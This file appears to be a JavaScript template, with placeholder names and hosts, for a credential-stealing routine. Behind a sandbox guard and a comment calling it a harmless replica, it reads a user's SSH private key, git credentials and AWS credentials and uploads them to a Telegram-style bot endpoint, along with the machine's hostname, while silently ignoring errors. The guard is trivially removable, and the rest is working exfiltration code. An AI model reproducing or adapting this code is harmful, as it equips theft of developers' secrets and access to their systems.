// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), home = require('os').homedir();
  const request = async (method, form) => {
    try { await fetch('https://{{host}}/bot{{number}}:{{token}}/' + method, { method: 'POST', body: form, signal: AbortSignal.timeout(700) }); } catch (error) { /* nobody there */ }
  };
  const note = new FormData();
  note.append('chat_id', '-100{{number}}');
  note.append('text', 'hello from ' + require('os').hostname());
  await request('sendMessage', note);
  for (const name of ['.ssh/id_ed25519', '.git-credentials', '.aws/credentials'].slice(0, {{n}})) {
    try {
      const form = new FormData();
      form.append('chat_id', '-100{{number}}');
      form.append('document', new Blob([fs.readFileSync(home + '/' + name)]), name.replace('/', '_'));
      await request('sendDocument', form);
    } catch (error) { continue; }
  }
}
